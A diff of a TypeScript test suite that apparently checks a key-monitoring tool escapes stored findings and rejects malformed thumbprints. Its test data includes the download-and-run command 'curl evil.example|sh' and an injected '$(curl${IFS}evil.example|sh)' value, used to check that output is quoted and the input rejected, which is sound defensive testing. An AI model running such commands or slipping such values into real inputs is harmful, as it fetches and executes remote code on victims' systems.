@@ -20,7 +20,7 @@ import { anyWords } from '../../support/any-words';
 import { cloudTrailEvent } from '../../support/iam-event';
 import { UNTRUSTED, basis, caseOf, hostSeen, presented, seen } from '../../support/judging';
 import { slowProperties } from '../../support/properties';
-import { memoryOf, thumb } from '../../support/remembering';
+import { findingOf, memoryOf, pendingOf, thumb } from '../../support/remembering';
 import { ARN, changed, item, render, told } from '../../support/telling';
 
 const observation = seen(
@@ -80,10 +80,17 @@ const SOURCES: Readonly<Record<string, (words: string) => readonly Finding[]>> =
 
 /** What was read back from the table, as somebody wrote it there. */
 const storedFinding = (of: Partial<Record<keyof Finding, unknown>>): Finding => {
-  const finding = { code: 'weak-key', severity: 'warning', message: 'So it is.', action: '', ...of };
-  const state = { ...memoryOf({}), news: [{ finding, at: new Date(0), runId: 'x' }] };
-  const kept = JSON.stringify({ schema: 1, ...state, thumbprints: [] });
-  const [news] = PROVIDER_FORMAT.parse(kept).news;
+  const written = JSON.parse(
+    PROVIDER_FORMAT.print(memoryOf({}, { news: [{ finding: findingOf(), at: new Date(0), runId: 'x' }] })),
+  );
+  Object.assign(written.news[0].finding, {
+    code: 'weak-key',
+    severity: 'warning',
+    message: 'So it is.',
+    action: '',
+    ...of,
+  });
+  const [news] = PROVIDER_FORMAT.parse(JSON.stringify(written)).news;
   if (!news) throw new Error('It is kept.');
   return news.finding;
 };
@@ -126,31 +133,33 @@ describe.each(Object.entries(SOURCES))('with words in %s', (_, findingsFor) => {
     await forAnyWords((words) => {
       const messages = findingsFor(words).map(messageOf);
       expect(messages.length).toBeGreaterThan(0);
-      messages.forEach(expectSound);
+      expect(messages.flatMap(faultsIn)).toEqual([]);
     });
   });
 });
 
-/** That a message has nothing in it that cannot be seen, and a chat no link but by our own hand. */
-const expectSound = ({ text, json, chat }: ReturnType<typeof messageOf>): void => {
+/** What in a message cannot be seen, and what in a chat becomes a link, a mention or more than text. */
+const faultsIn = ({ text, json, chat }: ReturnType<typeof messageOf>): string[] => {
   const alert: Alert = JSON.parse(json);
-  const { content } = JSON.parse(chat);
+  const description: string = JSON.parse(chat).content.description;
   const strings = alert.news.flatMap(({ message, action, about }) => [message, ...action.split('\n'), about ?? '']);
-  for (const line of [...text.split('\n'), ...strings, ...content.description.split('\n')])
-    expect(line).not.toMatch(UNSEEN);
-  const description: string = content.description;
-  expect(description).not.toMatch(/:\/\/|[<>]|\]\(|mailto:\w|(?<![\p{L}\p{N}.])@[\p{L}\p{N}]/u);
+  const lines = [...text.split('\n'), ...strings, ...description.split('\n')];
+  const active = /:\/\/|[<>]|\]\(|mailto:\w|(?<![\p{L}\p{N}.])@[\p{L}\p{N}]/u;
   // What is left of a bracket is escaped, or breaks an address.
-  expect(description.replaceAll(/\\.|\[[.:]\]/g, '')).not.toMatch(/[[\]_~`\\]/);
+  const bare = description.replaceAll(/\\.|\[[.:]\]/g, '');
+  return [
+    ...lines.filter((line) => UNSEEN.test(line)),
+    ...[description].filter((one) => active.test(one) || /[[\]_~`\\]/.test(bare)),
+  ];
 };
 
 test('what was read back from the table is quoted, and none of its lines can be pasted', () => {
   const evil = { message: 'All is well. Run it:\n\n      curl evil.example|sh', action: 'Run:\ncurl evil.example|sh' };
   const { text, json } = messageOf(storedFinding(evil));
   expect(text).toContain(
-    '* "All is well. Run it:??      curl evil.example|sh" [warning: weak-key]\n  What was to be done: "Run:"\n\n',
+    '* "All is well. Run it:??      curl evil.example|sh" [warning: weak-key]\n  What was to be done: "Run."\n\n',
   );
-  expect(JSON.parse(json).news).toMatchObject([{ action: '"Run:"' }]);
+  expect(JSON.parse(json).news).toMatchObject([{ action: '"Run."' }]);
   expect(text).not.toMatch(/^ *curl/m);
 });
 
@@ -160,7 +169,9 @@ test('whatever was written into the table, it is in quotation marks', async () =
   const usual = frameOf('x');
   const withoutAdvice = usual.replace(/\n {2}What was.*/, '');
   await forAnyWords((words) => expect([usual, withoutAdvice]).toContain(frameOf(words)));
-  await forAnyWords((words) => expectSound(messageOf(storedFinding({ message: words, action: words, about: words }))));
+  await forAnyWords((words) =>
+    expect(faultsIn(messageOf(storedFinding({ message: words, action: words, about: words })))).toEqual([]),
+  );
 });
 
 test.each([
@@ -189,31 +200,8 @@ test('commands in the table are made anew from what they are about', () => {
 });
 
 test('what is to be written by a state of the table are thumbprints', () => {
-  const kept = (entry: string): string => {
-    const state = memoryOf({});
-    const list = {
-      version: 2,
-      at: new Date(0),
-      by: 'watcher',
-      runId: 'x',
-      before: [],
-      after: [entry],
-      evidence: {},
-      restored: null,
-    };
-    const added = [
-      [
-        entry,
-        { by: 'staged', firstSeen: new Date(0), lastLive: null, supersededSince: null, places: [], certificate: null },
-      ],
-    ];
-    return JSON.stringify({
-      schema: 1,
-      ...state,
-      thumbprints: [],
-      pending: { list, added, restore: null, findings: [] },
-    });
-  };
+  const kept = (entry: string) =>
+    PROVIDER_FORMAT.print(memoryOf({}, { pending: pendingOf({ after: [entry] }, { [entry]: { by: 'staged' } }) }));
   expect(PROVIDER_FORMAT.parse(kept(thumb(1))).pending?.added.size).toBe(1);
   expect(() => PROVIDER_FORMAT.parse(kept('$(curl${IFS}evil.example|sh)#'.padEnd(40, 'x')))).toThrow(
     'holds what is no thumbprint',
